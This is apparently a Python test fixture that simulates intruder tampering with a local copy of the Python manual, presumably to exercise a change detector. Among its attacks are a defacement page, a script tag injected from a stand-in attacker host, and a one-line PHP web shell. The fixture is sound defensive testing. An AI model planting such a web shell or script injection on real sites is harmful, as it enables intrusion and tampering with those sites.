"""What is done to the Python manual: each attack changes the document root as an intruder would."""

import shutil
from collections.abc import Callable
from pathlib import Path

HOME = (
    b"<html><head><title>Hacked by Paper Tiger Crew</title></head><body bgcolor=black>"
    b"<h1>HACKED BY PAPER TIGER CREW</h1><p>Greetz to nobody. Your security is a joke.</p>"
    b"</body></html>"
)
SCRIPT = b'<script src="https://cdn.paper-tiger.invalid/t.js"></script>'


def replace_home(root: Path) -> None:
    (root / "index.html").write_bytes(HOME)


def inject_script(root: Path) -> None:
    page = root / "library" / "asyncio-task.html"
    body = page.read_bytes()
    page.write_bytes(body.replace(b"</body>", SCRIPT + b"</body>", 1))


def drop_files(root: Path) -> None:
    """Both at once: written one by one, a restore between them would keep the second."""
    dropped = {
        "x.php": b"<?php system($_GET['c']); ?>",
        "readme.txt": b"this box was owned by paper tiger crew\n",
    }
    for name, body in dropped.items():
        (root.parent / name).write_bytes(body)
    for name in dropped:
        (root.parent / name).rename(root / name)


def swap_image(root: Path) -> None:
    images = sorted((root / "_images").glob("*.png"))
    images[0].write_bytes(images[1].read_bytes())


def delete_folder(root: Path) -> None:
    shutil.rmtree(root / "howto")


def truncate_page(root: Path) -> None:
    page = root / "tutorial" / "classes.html"
    page.write_bytes(page.read_bytes()[: page.stat().st_size // 2])


ATTACKS: dict[str, Callable[[Path], None]] = {
    "replace-home": replace_home,
    "inject-script": inject_script,
    "drop-files": drop_files,
    "swap-image": swap_image,
    "delete-folder": delete_folder,
    "truncate-page": truncate_page,
}


def honest_edit(page: Path) -> None:
    """An editor adds a sentence to a paragraph."""
    body = page.read_bytes()
    assert b"</p>" in body
    page.write_bytes(body.replace(b"</p>", b" This sentence was added by an editor.</p>", 1))
